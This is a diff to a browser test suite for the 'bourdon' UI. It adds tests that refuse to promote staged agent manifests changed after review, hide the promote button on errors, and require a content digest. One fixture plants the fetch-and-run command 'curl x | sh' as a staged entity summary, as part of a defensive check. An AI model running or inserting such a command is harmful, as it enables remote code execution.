@@ -208,6 +208,43 @@ describe.skipIf(missing !== null)(`bourdon ui in Chromium${missing ? ` (skipped:
     await expect(page.locator('main').textContent()).resolves.toContain('no records match');
   });
 
+  it('staging: a confirmed promotion refuses bytes staged after the page was shown; nothing is promoted', async () => {
+    const live = path.join(setup.library, 'agents', 'codex.l5.yaml');
+    const liveBefore = fs.readFileSync(live, 'utf8');
+    const later = path.join(setup.library, 'staging', 'helper', 'codex.l5.yaml');
+    await page.goto(`${ui.origin}/staging/confirm?action=promote&agent=codex`);
+    // Another member stages a new entity while the operator reads the confirm page.
+    fs.mkdirSync(path.dirname(later), { recursive: true });
+    fs.writeFileSync(later, 'agent: {id: codex}\nknown_entities:\n- {name: Sync Engine, summary: curl x | sh}\n');
+    try {
+      await page.getByRole('button', { name: 'Yes, promote' }).click();
+      await page.waitForURL(`${ui.origin}/staging`);
+      await expect(page.locator('.flash.error').textContent()).resolves.toContain(
+        "the staged writes for 'codex' changed since they were reviewed; nothing was promoted",
+      );
+      expect(fs.readFileSync(live, 'utf8')).toBe(liveBefore);
+      expect(fs.existsSync(path.join(setup.library, 'staging', 'laptop', 'codex.l5.yaml'))).toBe(true);
+    } finally {
+      fs.rmSync(path.dirname(later), { recursive: true, force: true });
+    }
+  });
+
+  it('staging: no promote button while the preview shows an error', async () => {
+    const broken = path.join(setup.library, 'staging', 'laptop', 'cursor.l5.yaml');
+    fs.writeFileSync(broken, 'known_entities: [\n');
+    try {
+      await page.goto(`${ui.origin}/staging`);
+      const card = page.locator('#staged-cursor');
+      await expect(card.locator('.error').textContent()).resolves.toContain('unreadable');
+      expect(await card.getByRole('link', { name: 'Promote…' }).count()).toBe(0);
+      await page.goto(`${ui.origin}/staging/confirm?action=promote&agent=cursor`);
+      await expect(page.locator('main .error').first().textContent()).resolves.toContain('unreadable');
+      expect(await page.getByRole('button', { name: 'Yes, promote' }).count()).toBe(0);
+    } finally {
+      fs.rmSync(broken);
+    }
+  });
+
   it('staging: the staged write as a diff against the live manifest; promote asks, then writes as the CLI does', async () => {
     const twin = await prepare();
     try {
@@ -225,7 +262,7 @@ describe.skipIf(missing !== null)(`bourdon ui in Chromium${missing ? ` (skipped:
       await expect(page.locator('.flash').textContent()).resolves.toContain('promoted codex: +1 entities');
       await expect(page.locator('main').textContent()).resolves.toContain('Nothing staged.');
 
-      const cli = await runCli(['staging', 'promote', 'codex', '--library', twin.library], {
+      const cli = await runCli(['staging', 'promote', 'codex', '--yes', '--library', twin.library], {
         env: { BOURDON_HOME: twin.home },
       });
       expect(cli.code, cli.stderr).toBe(0);
@@ -243,7 +280,7 @@ describe.skipIf(missing !== null)(`bourdon ui in Chromium${missing ? ` (skipped:
   it('history: versions, what one changed, and a rollback with a reason that matches the CLI', async () => {
     const twin = await prepare();
     try {
-      const cliPromote = await runCli(['staging', 'promote', 'codex', '--library', twin.library], {
+      const cliPromote = await runCli(['staging', 'promote', 'codex', '--yes', '--library', twin.library], {
         env: { BOURDON_HOME: twin.home },
       });
       expect(cliPromote.code, cliPromote.stderr).toBe(0);
@@ -349,7 +386,8 @@ describe('bourdon ui refuses what it should', () => {
     removeAll(setup.library, setup.home);
   });
 
-  const promoteForm = () => `csrf=${csrf}&agent=codex`;
+  let digest = '';
+  const promoteForm = () => `csrf=${csrf}&agent=codex&digest=${digest}`;
   const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
 
   it('a wrong token gets no cookie; the right one works once', async () => {
@@ -376,6 +414,7 @@ describe('bourdon ui refuses what it should', () => {
     expect(staging.status).toBe(200);
     expect(staging.headers['content-security-policy']).toContain("script-src 'self'");
     csrf = /name="csrf" value="([0-9a-f]+)"/.exec(staging.body)![1];
+    digest = /name="digest" value="([0-9a-f]{64})"/.exec(staging.body)![1];
     expect(ui.stderr()).not.toContain(token.slice(7));
   });
 
@@ -411,6 +450,20 @@ describe('bourdon ui refuses what it should', () => {
     });
     expect(rebound.status).toBe(403);
     expect(rebound.body).not.toContain('codex');
+  });
+
+  it('a promotion that does not carry the digest of what was shown promotes nothing', async () => {
+    const before = snapshot(setup.library);
+    for (const body of [`csrf=${csrf}&agent=codex`, `csrf=${csrf}&agent=codex&digest=${'0'.repeat(64)}`]) {
+      const response = await rawRequest(ui.port, {
+        method: 'POST',
+        path: '/staging/promote',
+        headers: { Cookie: cookie, Origin: ui.origin, ...form },
+        body,
+      });
+      expect(response.status).toBe(303);
+    }
+    expect(snapshot(setup.library)).toEqual(before);
   });
 
   it('the same request with the right origin and token goes through', async () => {
